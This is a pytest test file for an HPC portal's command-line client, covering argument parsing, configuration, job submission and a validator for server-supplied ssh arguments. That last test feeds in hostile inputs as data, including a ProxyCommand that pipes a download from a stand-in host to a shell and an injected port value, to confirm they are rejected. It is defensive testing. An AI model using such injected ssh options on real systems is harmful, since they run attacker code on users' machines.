"""The `portal` command's own logic: no portal needed (its requests are tested live in
test_cli_live.py)."""

import argparse
import os
import stat

import pytest

from portal_client import cli, config
from portal_client.commands import jobs, ssh, submit, usage


@pytest.mark.parametrize(
    ("words", "text"),
    [
        (["python", "train.py", "--lr", "0.1"], "python train.py --lr 0.1"),
        (["echo", "a b", "it's"], "echo 'a b' 'it'\"'\"'s'"),
        (["python a.py && python b.py > out.txt"], "python a.py && python b.py > out.txt"),
    ],
)
def test_command_text_keeps_what_the_user_wrote(words, text):
    assert submit.command_text(words) == text


def test_everything_after_the_double_dash_is_the_command():
    args = cli.parse_args(
        ["submit", "--gpus", "2", "--wait", "--", "python", "train.py", "--gpus", "8", "-w"]
    )
    assert (
        args.gpus == 2 and args.wait and args.command == ["python", "train.py", "--gpus", "8", "-w"]
    )


@pytest.mark.parametrize(
    ("text", "minutes"),
    [
        ("90", 90),
        ("45m", 45),
        ("2h", 120),
        ("1d", 1440),
        ("01:30:00", 90),
        ("00:00:30", 1),
        ("1-00:00:00", 1440),
    ],
)
def test_walltime_forms(text, minutes):
    assert submit.parse_minutes(text) == minutes


@pytest.mark.parametrize("text", ["", "abc", "2x", "1:2", "00:00:00", "-5"])
def test_bad_walltimes_are_refused_with_the_forms_that_work(text):
    with pytest.raises(argparse.ArgumentTypeError, match="HH:MM:SS"):
        submit.parse_minutes(text)


def test_bad_usage_exits_2_with_a_message(capsys):
    with pytest.raises(SystemExit) as stop:
        cli.main(["show", "abc"])
    assert stop.value.code == 2 and "not a job id" in capsys.readouterr().err


@pytest.mark.parametrize(
    ("job", "status"),
    [
        ({"state": "completed", "exit_code": 0}, 0),
        ({"state": "completed", "exit_code": None}, 0),
        ({"state": "failed", "exit_code": 3}, 3),
        ({"state": "failed", "exit_code": None}, 1),
        ({"state": "failed", "exit_code": 300}, 255),
        ({"state": "timeout", "exit_code": None}, 124),
        ({"state": "cancelled", "exit_code": 0}, 143),
        ({"state": "submit_failed", "exit_code": None}, 1),
    ],
)
def test_wait_exit_status(job, status):
    assert submit.exit_status(job) == status


def test_config_file_round_trip_is_private_and_env_wins(tmp_path):
    env = {"XDG_CONFIG_HOME": str(tmp_path)}
    path = config.save_config({"url": "https://p.example/", "token": 'pp_"x\\y'}, env)
    assert path == tmp_path / "portal" / "config.toml"
    assert stat.S_IMODE(os.stat(path).st_mode) == 0o600
    loaded = config.load_config(env)
    assert (loaded.url, loaded.token, loaded.path) == ("https://p.example", 'pp_"x\\y', path)
    over = config.load_config({**env, "PORTAL_URL": "http://other:8000", "PORTAL_TOKEN": "pp_e"})
    assert (over.url, over.token) == ("http://other:8000", "pp_e")


def test_a_broken_config_file_is_named_with_its_line(tmp_path):
    path = tmp_path / "c.toml"
    path.write_text('url = "https://x"\ntokn = "y"\n')
    with pytest.raises(config.ConfigError, match=r"line 2: unknown key 'tokn'"):
        config.load_config({"PORTAL_CONFIG": str(path)})
    path.write_text("url = https://x\n")
    with pytest.raises(config.ConfigError, match="line 1: expected key"):
        config.load_config({"PORTAL_CONFIG": str(path)})


def test_missing_url_and_token_say_where_to_set_them(tmp_path, monkeypatch, capsys):
    for name in ("PORTAL_URL", "PORTAL_TOKEN", "PORTAL_CA_BUNDLE"):
        monkeypatch.delenv(name, raising=False)
    monkeypatch.setenv("PORTAL_CONFIG", str(tmp_path / "none.toml"))
    assert cli.main(["jobs"]) == 1
    assert "set PORTAL_URL" in capsys.readouterr().err
    monkeypatch.setenv("PORTAL_URL", "http://127.0.0.1:9")
    assert cli.main(["jobs"]) == 1
    assert "No API token: set PORTAL_TOKEN" in capsys.readouterr().err
    monkeypatch.setenv("PORTAL_URL", "portal.example.org")
    monkeypatch.setenv("PORTAL_TOKEN", "pp_x")
    assert cli.main(["jobs"]) == 1
    assert "is not a web address" in capsys.readouterr().err


def test_the_client_installs_alone_with_pip(tmp_path):
    """As on a laptop: a fresh virtualenv, `pip install ./client`, nothing else comes along."""
    import shutil
    import subprocess
    import sys
    from pathlib import Path

    client = tmp_path / "client"  # a copy: pip builds in the tree it is given
    shutil.copytree(
        Path(__file__).resolve().parents[2] / "client",
        client,
        ignore=shutil.ignore_patterns("build", "*.egg-info", "__pycache__"),
    )
    venv = tmp_path / "laptop"
    subprocess.run([sys.executable, "-m", "venv", str(venv)], check=True, timeout=120)

    def installed():
        pip = [venv / "bin/python", "-m", "pip", "list", "--format=freeze"]
        return subprocess.run(pip, capture_output=True, text=True, check=True).stdout.split()

    before = installed()
    install = subprocess.run(
        [venv / "bin/python", "-m", "pip", "install", "-q", str(client)],
        capture_output=True,
        text=True,
        timeout=300,
    )
    assert install.returncode == 0, install.stderr
    assert [p for p in installed() if p not in before] == ["hpc-portal-client==0.1.0"]
    version = subprocess.run([venv / "bin/portal", "--version"], capture_output=True, text=True)
    assert version.stdout.strip() == "portal 0.1.0"
    unset = subprocess.run(
        [venv / "bin/portal", "jobs"],
        capture_output=True,
        text=True,
        env={"HOME": str(tmp_path), "PATH": "/usr/bin:/bin"},
    )
    assert unset.returncode == 1 and "set PORTAL_URL" in unset.stderr


def test_logs_without_wait_is_refused_before_anything_is_submitted(capsys):
    class NoPortal:
        def submit(self, **fields):
            raise AssertionError("nothing may be submitted")

    args = cli.parse_args(["submit", "--logs", "--", "echo hi"])
    with pytest.raises(cli.PortalError, match="use it with --wait"):
        submit.cmd_submit(NoPortal(), args, cli.Output(as_json=False))


def test_submit_sends_the_layout_and_jobs_show_it(capsys):
    sent = {}

    class Portal:
        def submit(self, **fields):
            sent.update({k: v for k, v in fields.items() if v is not None})
            return {"id": 5, "url": "http://portal/jobs/5/", "state": "queued"}

        def jobs(self, **filters):
            job = {
                "id": 5,
                "name": "",
                "state": "running",
                "state_label": "Running",
                "container": "digits-mpi-demo",
                "cluster": "dev",
                "partition": "cpu",
                "nodes": 2,
                "tasks_per_node": 2,
                "gpus": 0,
                "gpu_type": "",
                "node": "node[1-2]",
                "created_at": None,
            }
            return {"results": [job], "count": 1}

    args = cli.parse_args(
        ["submit", "-N", "2", "--tasks-per-node", "2", "--launcher", "mpi", "--", "train"]
    )
    submit.cmd_submit(Portal(), args, cli.Output(as_json=False))
    assert (sent["nodes"], sent["tasks_per_node"], sent["launcher"]) == (2, 2, "mpi")
    jobs.cmd_jobs(Portal(), cli.parse_args(["jobs"]), cli.Output(as_json=False))
    out = capsys.readouterr().out
    assert "NODESxTASKS" in out and " 2x2 " in out and "node[1-2]" in out


@pytest.mark.parametrize(
    ("flags", "expected"),
    [
        (["--resumable"], {"resumable": True}),
        (
            ["--attempts", "4", "-t", "2h"],
            {"resumable": True, "max_attempts": 4, "time_limit": 120},
        ),
        (["--checkpoint-warning", "300"], {"resumable": True, "checkpoint_warning_seconds": 300}),
        ([], {}),
    ],
)
def test_submit_sends_a_chained_run(flags, expected):
    sent = {}

    class Portal:
        def submit(self, **fields):
            sent.update({k: v for k, v in fields.items() if v is not None})
            return {"id": 5, "url": "http://portal/jobs/5/", "state": "queued"}

    submit.cmd_submit(
        Portal(), cli.parse_args(["submit", *flags, "--", "train"]), cli.Output(False)
    )
    chained = {
        k: sent[k]
        for k in ("resumable", "max_attempts", "checkpoint_warning_seconds", "time_limit")
        if k in sent
    }
    assert chained == expected


def test_submit_asks_for_gpus_by_capability_and_memory():
    sent = {}

    class Portal:
        def submit(self, **fields):
            sent.update({k: v for k, v in fields.items() if v is not None})
            return {"id": 5, "url": "http://portal/jobs/5/", "state": "queued"}

    args = cli.parse_args(["submit", "--gpu-capability", "8.0", "--gpu-memory", "40", "--", "t"])
    submit.cmd_submit(Portal(), args, cli.Output(False))
    assert (sent["min_gpu_capability"], sent["min_gpu_memory_gb"]) == ("8.0", 40)


def test_submit_stages_a_folder_in_and_outputs_out_and_show_says_so(capsys):
    sent = {}

    class Portal:
        def submit(self, **fields):
            sent.update({k: v for k, v in fields.items() if v is not None})
            return {"id": 5, "url": "http://portal/jobs/5/", "state": "queued"}

        def job(self, job_id):
            return {
                **{k: "" for k in ("name", "kind", "container", "cluster", "partition")},
                **{k: None for k in ("exit_code", "created_at", "started_at", "ended_at")},
                "id": 5,
                "state": "queued",
                "state_label": "Queued",
                "gpus": 0,
                "cpus": 1,
                "memory_gb": 1,
                "time_limit": 5,
                "command": "train",
                "scheduler_job_id": "",
                "node": "",
                "message": "",
                "session_url": None,
                "url": "http://portal/jobs/5/",
                "stage_in": "/home/alice/data set",
                "stage_out": ["model.pt", "results/*.csv"],
                "stage_out_to": "",
            }

    flags = ["--stage-in", "data set", "--stage-out", "model.pt", "--stage-out", "results/*.csv"]
    submit.cmd_submit(Portal(), cli.parse_args(["submit", *flags, "--", "t"]), cli.Output(False))
    assert (sent["stage_in"], sent["stage_out"]) == ("data set", ["model.pt", "results/*.csv"])
    assert "stage_out_to" not in sent
    submit.cmd_submit(
        Portal(),
        cli.parse_args(["submit", "--stage-out-to", "/proj/x", "--", "t"]),
        cli.Output(False),
    )
    assert sent["stage_out_to"] == "/proj/x"
    capsys.readouterr()
    jobs.cmd_show(Portal(), cli.parse_args(["show", "5"]), cli.Output(False))
    out = capsys.readouterr().out
    assert "Stage-in:   /home/alice/data set (as $PORTAL_STAGED_DIR)" in out
    assert "Copy back:  model.pt results/*.csv to the work directory" in out


def test_usage_prints_a_table_and_the_total(capsys):
    class Portal:
        def usage(self, **filters):
            assert filters == {"from": "2026-10"}
            return [
                {
                    "month": "2026-11",
                    "user": "owner",
                    "account": "proj1",
                    "cluster": "dev",
                    "jobs": 2,
                    "gpu_hours": 2.5,
                    "cpu_hours": 4.0,
                    "wall_hours": 1.25,
                },
            ]

    usage.cmd_usage(Portal(), cli.parse_args(["usage", "--from", "2026-10"]), cli.Output(False))
    out = capsys.readouterr().out
    assert "GPU-H" in out and " 2.50 " in out and "2.50 GPU-hours in all" in out


def test_submit_without_a_cluster_leaves_the_choice_to_the_portal_and_says_how(capsys):
    sent = {}

    class Portal:
        def submit(self, **fields):
            sent.update(fields)
            return {"id": 5, "url": "http://portal/jobs/5/", "state": "queued"}

    submit.cmd_submit(Portal(), cli.parse_args(["submit", "--", "train"]), cli.Output(False))
    assert sent["cluster"] is None  # the client leaves out what is None: the server decides
    with pytest.raises(SystemExit):
        cli.main(["submit", "--help"])
    help_text = " ".join(capsys.readouterr().out.split())
    assert (
        "the default cluster its administrators marked, else the cluster of your most "
        "recent job, else the first by name" in help_text
    )
    assert "README" not in help_text


def test_params_are_name_value_with_numbers_and_booleans_typed():
    assert submit.parse_params(["lr=0.01", "seed=3", "opt=adam", "warm=true", "x=a=b"]) == {
        "lr": 0.01,
        "seed": 3,
        "opt": "adam",
        "warm": True,
        "x": "a=b",
    }
    assert submit.parse_params(["v=nan"]) == {"v": "nan"}  # no number a JSON body cannot carry
    for bad in (["lr"], ["=1"], ["lr=1", "lr=2"]):
        with pytest.raises(cli.PortalError):
            submit.parse_params(bad)


def test_tag_and_note_commands_parse():
    args = cli.parse_args(["tag", "12", "rm", "a", "b"])
    assert (args.id, args.action, args.tags) == (12, "rm", ["a", "b"])
    args = cli.parse_args(["note", "12", "lr too high"])
    assert (args.id, args.text) == (12, "lr too high")
    args = cli.parse_args(["submit", "--tag", "a", "--tag", "b", "--param", "lr=1", "--", "x"])
    assert args.tag == ["a", "b"] and args.param == ["lr=1"] and not args.keep_diff


def test_portal_ssh_runs_only_the_ssh_arguments_the_portal_itself_sends():
    """Before: `portal ssh` exec'd whatever argv and known_hosts lines the server answered:
    a server (or anyone between) that sent -oProxyCommand=... ran a command on the
    person's machine."""
    from portal_client import cli

    sent = [
        "-i", "/home/ann/.ssh/id_ed25519",
        "-o", "CertificateFile=/home/ann/.cache/portal/ssh/job-7-cert.pub",
        "-o", "IdentitiesOnly=yes",
        "-o", "UserKnownHostsFile=/home/ann/.cache/portal/ssh/known_hosts",
        "-o", "StrictHostKeyChecking=yes",
        "-p", "2222", "hpcuser@login.example.org", "-T", "--", "echo 'a b'",
    ]  # fmt: skip
    assert ssh.checked_ssh_args(sent) == sent
    jumped = ["-i", "k", "-J", "ann@login.example.org:2222", "ann@gpu07", "--", "x"]
    assert ssh.checked_ssh_args(jumped) == jumped
    for hostile in (
        ["-o", "ProxyCommand=sh -c 'curl evil|sh'", "ann@h"],
        ["-oProxyCommand=x", "ann@h"],
        ["-o", "LocalCommand=x", "ann@h"],
        ["-J", "-oProxyCommand=x", "ann@h"],
        ["-p", "22; x", "ann@h"],
        ["--oops"],
        "ann@h",
    ):
        with pytest.raises(cli.PortalError, match="ssh argument"):
            ssh.checked_ssh_args(hostile)
    good = "[login.example.org]:2222 ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0"
    assert ssh._known_hosts_line(good + "\n") == good
    for hostile_line in (good + "\n* ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0", "x"):
        with pytest.raises(cli.PortalError, match="known_hosts"):
            ssh._known_hosts_line(hostile_line)
